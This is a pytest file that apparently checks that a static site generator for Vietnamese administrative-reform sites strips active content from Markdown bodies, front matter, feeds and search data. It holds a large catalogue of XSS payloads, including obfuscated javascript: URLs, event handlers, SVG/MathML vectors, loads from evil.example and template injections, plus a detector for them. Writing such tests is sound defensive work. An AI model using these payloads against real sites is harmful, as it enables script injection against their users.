"""Issue 6, class 2: no active content from the content reaches the output.

One site holds every attack we know of, in Markdown bodies and in every
front-matter field of every content type. It is built, and every HTML page
and feed is parsed the way a browser tokenises it (html.parser decodes
entities in attributes): the only scripts are the site's own files under
assets/, there are no event handlers, no style or frame or object elements,
no javascript:/vbscript:/data: URLs, and template syntax stays literal text.
"""

from __future__ import annotations

import json
import re
import xml.etree.ElementTree as ET
from html.parser import HTMLParser
from pathlib import Path

import pytest
from sitefactory import BuildResult, make_site

MARK = "alert(1337)"
BODY_ATTACKS = [
    f"<script>{MARK}</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    f"<scr<script>ipt>{MARK}</script>",
    "<style>body{display:none} @import 'https://evil.example/x.css';</style>",
    f'<iframe src="https://evil.example"></iframe> <iframe srcdoc="<script>{MARK}</script>"></iframe>',
    f'<object data="javascript:{MARK}"></object> <embed src="javascript:{MARK}">',
    f"<img src=https://a.vn/x.png onerror={MARK}> <IMG SRC=JaVaScRiPt:{MARK}> <img src=x:y onerror=eval(src)>",
    f'<a href="javascript:{MARK}">a1</a> [a2](javascript:{MARK}) [a3](<javascript:{MARK}>) <javascript:{MARK}>',
    f"[a4][evil]\n\n[evil]: javascript:{MARK}",
    f'<a href="jav&#x61;script:{MARK}">e1</a> [e2](jav&#x61;script:{MARK}) <a href="&#106;avascript:{MARK}">e3</a>',
    f'<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;{MARK}">e4</a>',
    f'<a href="javascript&colon;{MARK}">e5</a> <a href="jav&#0000097;script:{MARK}">e6</a>',
    f'<a href="java&#x0A;script:{MARK}">w1</a> <a href="  javascript:{MARK}">w2</a> <a href="java&#x09;script:{MARK}">w3</a>',
    f'<a href="JaVaScRiPt:{MARK}">c1</a> <a href="vbscript:msgbox(1)">c2</a>',
    f'<a href="data:text/html,<script>{MARK}</script>">d1</a> '
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d2</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"> ![d3](data:image/svg+xml;base64,PHN2Zz4=)',
    f'<svg><script>{MARK}</script></svg> <svg onload="{MARK}"></svg>',
    f'<svg><a xlink:href="javascript:{MARK}"><text>s1</text></a><animate onbegin={MARK} attributeName=x /></svg>',
    f'<math><mtext><script>{MARK}</script></mtext></math> <math href="javascript:{MARK}">m</math>',
    f'<details open ontoggle={MARK}>t</details> <body onload={MARK}> <div onmouseover="{MARK}">o</div>',
    f'<p style="background:url(javascript:{MARK})" onclick="{MARK}">st</p>',
    f'<base href="https://evil.example/"> <meta http-equiv="refresh" content="0;url=javascript:{MARK}">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    f'<form action="javascript:{MARK}"><input name="a"><button formaction="javascript:{MARK}">b</button></form>',
    f'<noscript><p title="</noscript><img src=https://a.vn/x.png onerror={MARK}>"></noscript>',
    f"<template><script>{MARK}</script></template> <textarea><script>{MARK}</script></textarea>",
    f"<!--<script>{MARK}</script>--> <![CDATA[<script>{MARK}</script>]]>",
    f'<img srcset="javascript:{MARK} 1x"> <video poster="javascript:{MARK}"></video>',
    f'<a href="https://a.vn" target="_blank" rel="opener" onfocus="{MARK}" tabindex="1">ok</a>',
    f'<sup id="a" onclick="{MARK}">1</sup> <abbr title="x" onmouseover="{MARK}">UBND</abbr>',
    "Công thức {{ 7*7 }} và {% for x in range(3) %}X{% endfor %} {# c #} ${7*7} #{7*7}",
    f"&lt;script&gt;{MARK}&lt;/script&gt; `<script>{MARK}</script>`",
    f"```html\n<script>{MARK}</script>\n```",
]
BODY = "Mở đầu.\n\n" + "\n\n".join(BODY_ATTACKS) + "\n\nKết thúc.\n"

# Attacks in front-matter text: always escaped, never a template.
TEXT_ATTACKS = [
    f"<script>{MARK}</script>",
    f'"><img src=https://a.vn/x.png onerror={MARK}>',
    f"' onmouseover='{MARK}' x='",
    "</title><script>alert(1)</script>",
    "{{ 7*7 }} {% raw %}{% endraw %} {{ config }}",
    "javascript:alert(1)",
]


def quoted(value: str) -> str:
    return json.dumps(value, ensure_ascii=False)


def front(**fields: object) -> str:
    return (
        "---\n"
        + "".join(
            f"{k}: {quoted(v) if isinstance(v, str) else json.dumps(v, ensure_ascii=False)}\n"
            for k, v in fields.items()
        )
        + "---\n"
    )


def attack_site(root: Path):  # type: ignore[no-untyped-def]
    t = TEXT_ATTACKS
    files = {
        "content/plans/kh-1.md": front(
            title=t[0],
            number=f"1/KH-UBND {t[1]}",
            issued="2024-01-01",
            issuer=t[2],
            province="ha-tinh",
            summary=t[4],
            tags=[t[3], t[5]],
        )
        + BODY,
        "content/articles/tin.md": front(
            title=t[1],
            date="2024-05-01",
            province="ha-tinh",
            summary=t[0],
            tags=t[:4],
            author=t[2],
            plan="kh-1",
            source={"name": t[3], "url": f'https://a.vn/?q="><script>{MARK}'},
        )
        + BODY,
        "content/articles/tin-2.md": front(title=t[4], date="2024-05-02", province="ha-tinh", summary=t[5]) + BODY,
        "content/services/dv.md": front(
            title=t[3],
            level=4,
            field=t[0],
            agency=t[1],
            portal_url=f'https://dichvucong.gov.vn/p?x="onmouseover="{MARK}"',
            code="1.001234",
            processing_time={"trực tuyến": t[2]},
            fee=t[4],
            documents=t,
            result=t[1],
            legal_basis=[t[0]],
        )
        + BODY,
        "content/pages/gioi-thieu.md": front(title=t[2], summary=t[1]) + BODY,
    }
    return make_site(
        root,
        files,
        config={"title": f"CCHC {t[0]}", "description": t[4], "glossary": {"XSS": f"<script>{MARK}</script>"}},
    )


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> BuildResult:
    site = attack_site(tmp_path_factory.mktemp("html-safety"))
    result = site.build(drafts=True)
    assert result.ok, [d.format_text() for d in result.diagnostics]
    return result


class Page(HTMLParser):
    """Elements and text of a page as a browser tokenises it."""

    def __init__(self, markup: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.script_text: list[str] = []
        self.text: list[str] = []
        self._in: list[str] = []
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, attrs))
        if tag in ("script", "style"):
            self._in.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if self._in and self._in[-1] == tag:
            self._in.pop()

    def handle_data(self, data: str) -> None:
        (self.script_text if self._in else self.text).append(data)


URL_ATTRS = {
    "href",
    "src",
    "action",
    "formaction",
    "xlink:href",
    "poster",
    "data",
    "srcset",
    "background",
    "cite",
    "longdesc",
    "srcdoc",
    "content",
}
ACTIVE_TAGS = {
    "style",
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "base",
    "math",
    "template",
    "noscript",
    "textarea",
    "video",
    "audio",
    "details",
}
OWN = {("tim-kiem/index.html", "noscript")}  # the search page's own "needs JavaScript" note
SITE_SCRIPTS = re.compile(r"^(\.\./)*assets/(app|search|search-data|vendor/minisearch\.min)\.[0-9a-f]+\.js$")


def scheme(url: str) -> str:
    """The scheme a browser would see: tabs, newlines and leading controls/spaces removed."""
    cleaned = re.sub(r"[\t\n\r]", "", url).lstrip(
        "\x00\x01\x02\x03\x04\x05\x06\x07\x08\x0b\x0c\x0e\x0f"
        "\x10\x11\x12\x13\x14\x15\x16\x17\x18\x19\x1a\x1b\x1c\x1d"
        "\x1e\x1f "
    )
    match = re.match(r"^([a-zA-Z][a-zA-Z0-9+.-]*):", cleaned)
    return match.group(1).lower() if match else ""


def active_content(path: str, markup: str) -> list[str]:
    """Everything in one page that could run code or load from elsewhere, beyond the site's own files."""
    page = Page(markup)
    found: list[str] = []
    for tag, attrs in page.elements:
        names = dict(attrs)
        if tag == "script":
            if not SITE_SCRIPTS.match(names.get("src") or ""):
                found.append(f"script {names}")
        elif tag in ACTIVE_TAGS and (path, tag) not in OWN:
            found.append(f"<{tag}>")
        elif tag == "meta" and (names.get("http-equiv") or "").lower() not in ("", "content-security-policy"):
            found.append(f"meta {names}")
        elif tag == "svg" and not path.startswith("dich-vu-cong/"):  # the QR code of a service page
            found.append("<svg> outside a service page")
        elif (
            tag == "link"
            and names.get("href", "").startswith(("http:", "https:", "//"))
            and names.get("rel") != "canonical"
        ):
            found.append(f"link {names}")
        for name, value in attrs:
            if name.startswith("on"):
                found.append(f"<{tag} {name}>")
            if name == "style":
                found.append(f"<{tag} style>")
            if name in URL_ATTRS and value:
                for url in value.split(",") if name == "srcset" else [value]:
                    if (
                        scheme(url.strip()) in ("javascript", "vbscript", "data", "livescript", "mocha")
                        and not (tag == "link" and value == "data:,")
                        and name != "content"
                    ):
                        found.append(f"<{tag} {name}={value[:40]!r}>")
                if name == "content" and re.search(r"url\s*=\s*javascript", value, re.I):
                    found.append(f"<{tag} content={value[:40]!r}>")
    if any(MARK in s for s in page.script_text):
        found.append("inline script with the attack")
    return found


def html_pages(result: BuildResult) -> dict[str, str]:
    return {p: d.decode("utf-8") for p, d in result.files.items() if p.endswith(".html")}


def test_attack_site_has_the_pages_under_test(built: BuildResult) -> None:
    for page in (
        "tin-tuc/tin/index.html",
        "tin-tuc/tin-2/index.html",
        "ke-hoach/kh-1/index.html",
        "dich-vu-cong/dv/index.html",
        "gioi-thieu/index.html",
        "index.html",
        "tin-tuc/index.html",
        "tinh/ha-tinh/index.html",
        "dich-vu-cong/muc-do-4/index.html",
        "tim-kiem/index.html",
    ):
        assert page in built.files, page


def test_no_active_content_in_any_page(built: BuildResult) -> None:
    problems = {
        path: found for path, markup in sorted(html_pages(built).items()) if (found := active_content(path, markup))
    }
    assert problems == {}


@pytest.mark.parametrize(
    "page",
    ["tin-tuc/tin/index.html", "ke-hoach/kh-1/index.html", "dich-vu-cong/dv/index.html", "gioi-thieu/index.html"],
)
def test_body_text_survives_as_text_between_the_attacks(built: BuildResult, page: str) -> None:
    text = " ".join(Page(built.files[page].decode("utf-8")).text)
    assert "Mở đầu." in text and "Kết thúc." in text
    # escaped source and code stay visible, as text
    assert f"<script>{MARK}</script>" in text


@pytest.mark.parametrize(
    "page",
    [
        "tin-tuc/tin/index.html",
        "tin-tuc/tin-2/index.html",
        "ke-hoach/kh-1/index.html",
        "dich-vu-cong/dv/index.html",
        "gioi-thieu/index.html",
    ],
)
def test_template_syntax_is_never_evaluated(built: BuildResult, page: str) -> None:
    text = " ".join(Page(built.files[page].decode("utf-8")).text)
    assert "{{ 7*7 }}" in text
    assert "49" not in text.replace("2049", "")
    assert "XXX" not in text
    assert "{% for x in range(3) %}X{% endfor %}" in text or page != "tin-tuc/tin/index.html"


def test_front_matter_text_is_escaped_not_dropped(built: BuildResult) -> None:
    article = Page(built.files["tin-tuc/tin/index.html"].decode("utf-8"))
    assert TEXT_ATTACKS[1] in " ".join(article.text)  # the title, as text
    service = built.files["dich-vu-cong/dv/index.html"].decode("utf-8")
    title = service[service.index("<title>") + 7 : service.index("</title>")]
    assert "<" not in title and TEXT_ATTACKS[3] in " ".join(Page(title).text)
    for page in ("tin-tuc/tin/index.html", "ke-hoach/kh-1/index.html", "dich-vu-cong/dv/index.html"):
        text = " ".join(Page(built.files[page].decode("utf-8")).text)
        assert f"<script>{MARK}</script>" in text, page


def test_service_portal_url_cannot_break_out_of_its_attribute(built: BuildResult) -> None:
    page = Page(built.files["dich-vu-cong/dv/index.html"].decode("utf-8"))
    hrefs = [dict(attrs).get("href") for tag, attrs in page.elements if tag == "a"]
    assert f'https://dichvucong.gov.vn/p?x="onmouseover="{MARK}"' in hrefs
    assert all(not name.startswith("on") for _, attrs in page.elements for name, _ in attrs)


def test_feeds_carry_no_active_content(built: BuildResult) -> None:
    feeds = [p for p in built.files if p.endswith("feed.xml")]
    assert "feed.xml" in feeds and "tinh/ha-tinh/feed.xml" in feeds
    ns = {"a": "http://www.w3.org/2005/Atom"}
    for path in feeds:
        root = ET.fromstring(built.files[path])
        for element in root.iter():
            if element.get("type") == "html" and element.text:
                assert active_content("dich-vu-cong/feed", element.text) == [], path
            assert scheme(element.get("href") or "") not in ("javascript", "data", "vbscript"), path
        if path in ("feed.xml", "tinh/ha-tinh/feed.xml"):
            assert root.findall("a:entry", ns), path


def test_search_data_is_plain_json(built: BuildResult) -> None:
    path = next(p for p in built.files if re.match(r"assets/search-data\.[0-9a-f]+\.js$", p))
    text = built.files[path].decode("utf-8")
    prefix = "window.CCHC_SEARCH_DATA = "
    assert text.startswith(prefix)
    data = json.loads(text[len(prefix) :].rstrip().rstrip(";"))
    assert TEXT_ATTACKS[1] in json.dumps(data, ensure_ascii=False)  # kept as a string, not markup


def test_sitemap_and_robots_are_not_html(built: BuildResult) -> None:
    ET.fromstring(built.files["sitemap.xml"])  # well-formed: no raw '<' from content
    assert b"<script" not in built.files["sitemap.xml"] and b"<script" not in built.files["robots.txt"]


def test_the_checker_sees_the_raw_attacks() -> None:
    """The checks above are not vacuous: unsanitised, nearly every HTML attack is flagged."""
    html_attacks = [
        a for a in BODY_ATTACKS if a.lstrip().startswith("<") and not a.startswith(("<!--", "<javascript", "<scr<"))
    ]
    # (`<scr<script>ipt>` runs nothing as written; it is there for sanitisers that strip naively)
    flagged = [a for a in html_attacks if active_content("tin-tuc/x/index.html", a)]
    assert len(flagged) == len(html_attacks), set(html_attacks) - set(flagged)
    assert scheme("java\tscript:x") == scheme(" \x01JaVaScRiPt:x") == "javascript"


def test_feeds_hold_the_sanitised_bodies(built: BuildResult) -> None:
    root = ET.fromstring(built.files["feed.xml"])
    bodies = [e.text for e in root.iter() if e.get("type") == "html" and e.text]
    assert any("Mở đầu." in b and "Kết thúc." in b for b in bodies)
